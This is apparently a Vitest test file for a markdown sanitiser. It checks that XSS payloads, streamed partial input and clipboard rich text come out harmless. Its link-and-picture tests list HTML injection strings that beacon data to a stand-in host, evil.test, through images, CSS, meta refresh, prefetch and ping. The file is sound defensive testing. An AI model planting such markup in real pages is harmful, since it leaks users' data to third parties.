// @vitest-environment jsdom
import { describe, expect, test, vi } from 'vitest';
import { MarkdownView } from './markdown-view.ts';
import { sanitise, safeAddress } from './sanitise.ts';
import { toRichText } from './rich-text.ts';
import { xssCorpus } from './tests/xss-corpus.ts';

// Drawing is proved in the browser; mermaid would only be loaded here to fail.
vi.mock('./diagram.ts', () => ({ drawDiagram: () => Promise.reject(new Error('无法绘制')) }));

const allowedTags = new Set(
  'a abbr b blockquote br button caption cite code dd del details dfn div dl dt em figcaption figure h1 h2 h3 h4 h5 h6 hr i img input ins kbd li mark ol p pre q rp rt ruby s samp small span strong sub summary sup table tbody td tfoot th thead tr u ul var wbr'.split(
    ' ',
  ),
);

const badName = /^on|^style$|^id$|^name$|^srcset$|^ping$|^form|^background$|^popover/;
const embedded = /^data:image\/(?:png|jpe?g|gif|webp|avif|bmp);base64,/;

function isHarmful(element: Element): boolean {
  const names = element.getAttributeNames();
  // KaTeX builds its own nodes; none of them may act or point anywhere.
  if (element.closest('.katex')) return names.some((name) => /^on|href|^src|^id$/.test(name));
  const tag = element.tagName.toLowerCase();
  const href = element.getAttribute('href');
  const src = element.getAttribute('src');
  return (
    !allowedTags.has(tag) ||
    names.some((name) => badName.test(name)) ||
    (href !== null && !/^(?:https?:|mailto:)/.test(href)) ||
    (src !== null && !embedded.test(src)) ||
    (href !== null && !(element.getAttribute('rel') ?? '').includes('noopener')) ||
    (href !== null && element.getAttribute('target') !== '_blank') ||
    (tag === 'input' && !(element.getAttribute('type') === 'checkbox' && element.hasAttribute('disabled'))) ||
    // The only buttons are a code block's own.
    (tag === 'button' && !element.closest('[data-code-block]'))
  );
}

/** The elements that could do something, as they are written. */
function findHarm(root: Element): string[] {
  return [...root.querySelectorAll('*')].filter(isHarmful).map((element) => element.outerHTML);
}

describe('hostile text', () => {
  test('R-SEC-01 the corpus holds at least 60 payloads', () => {
    expect(new Set(xssCorpus).size).toBeGreaterThanOrEqual(60);
  });

  test.each(xssCorpus.map((payload) => [payload]))('R-SEC-01 nothing dangerous is left of %s', (payload) => {
    const box = document.createElement('div');
    const view = new MarkdownView(box, { whole: true });
    view.update(`前文\n\n${payload}\n\n后文`, false);
    expect(findHarm(box)).toEqual([]);
    view.destroy();
  });

  test('R-SEC-01 no state of a payload that is still being written is dangerous', () => {
    for (const payload of xssCorpus) {
      const box = document.createElement('div');
      const view = new MarkdownView(box, { whole: true });
      for (let end = 1; end <= payload.length; end += 3) view.update(payload.slice(0, end), true);
      expect(findHarm(box)).toEqual([]);
      view.destroy();
    }
  }, 60_000);

  test('R-SEC-01 rich text for the clipboard is as harmless, but for the looks it brings along', () => {
    for (const payload of xssCorpus) {
      const box = document.createElement('div');
      box.innerHTML = toRichText(payload);
      for (const element of box.querySelectorAll('[style]')) {
        expect(element.getAttribute('style')).not.toContain('url(');
        element.removeAttribute('style');
      }
      for (const element of box.querySelectorAll('*')) {
        for (const { name } of element.attributes) expect(name).not.toMatch(/^on|^id$|^srcset$/);
      }
      expect(box.querySelector('script, style, iframe, svg, form, button')).toBeNull();
    }
  });
});

describe('links and pictures', () => {
  const show = (html: string) => {
    const box = document.createElement('div');
    box.append(sanitise(html));
    return box;
  };

  test('R-SEC-02 a picture from elsewhere becomes a link that names its host', () => {
    const link = show('<img src="https://example.com/a.png" alt="示意图">').querySelector('a');
    expect(link?.textContent).toBe('图片：示意图（example.com）');
    expect(link?.href).toBe('https://example.com/a.png');
  });

  test.each([
    '<img src="https://evil.test/?d=330102">',
    '<img srcset="https://evil.test/?d=330102 2x">',
    '<picture><source srcset="https://evil.test/?d=330102"><img></picture>',
    '<video poster="https://evil.test/?d=330102" src="https://evil.test/?d=330102" autoplay></video>',
    '<audio src="https://evil.test/?d=330102" autoplay></audio>',
    '<iframe src="https://evil.test/?d=330102"></iframe>',
    '<object data="https://evil.test/?d=330102"></object>',
    '<link rel="stylesheet" href="https://evil.test/?d=330102">',
    '<link rel="dns-prefetch" href="https://330102.evil.test/">',
    '<p style="background:url(https://evil.test/?d=330102)">文</p>',
    '<style>@import "https://evil.test/?d=330102"</style>',
    '<svg><image href="https://evil.test/?d=330102"/></svg>',
    '<input type="image" src="https://evil.test/?d=330102">',
    '<table background="https://evil.test/?d=330102"></table>',
    '<meta http-equiv="refresh" content="0;url=https://evil.test/?d=330102">',
    '<a href="https://example.com" ping="https://evil.test/?d=330102">链接</a>',
  ])('R-FLOW-10 nothing is fetched for %s', (html) => {
    // Only a link that is followed by hand may name it.
    const box = show(html);
    for (const element of box.querySelectorAll('*'))
      for (const { name, value } of element.attributes)
        if (value.includes('evil.test'))
          expect([element.localName, name]).toEqual(expect.arrayContaining(['a']));
    expect(
      box.querySelector('style, link, meta, iframe, object, svg, video, audio, [ping], [srcset]'),
    ).toBeNull();
  });

  test('R-SEC-02 an embedded picture stays', () => {
    expect(show('<img src="data:image/png;base64,iVBORw0KGgo=">').querySelector('img')).not.toBeNull();
  });

  test('R-SEC-55 a link says where it leads when its words do not', () => {
    expect(show('<a href="https://b.example/">https://a.example/</a>').querySelector('a')?.title).toBe(
      'https://b.example/',
    );
  });

  test.each([
    ['https://a.cn', true],
    ['http://a.cn', true],
    ['mailto:a@b.cn', true],
    ['javascript:1', false],
    ['/chat', false],
    ['//a.cn', false],
    ['ftp://a.cn', false],
    ['', false],
  ])('R-SEC-55 %s may be linked: %s', (href, allowed) => {
    expect(safeAddress(href) !== null).toBe(allowed);
  });
});
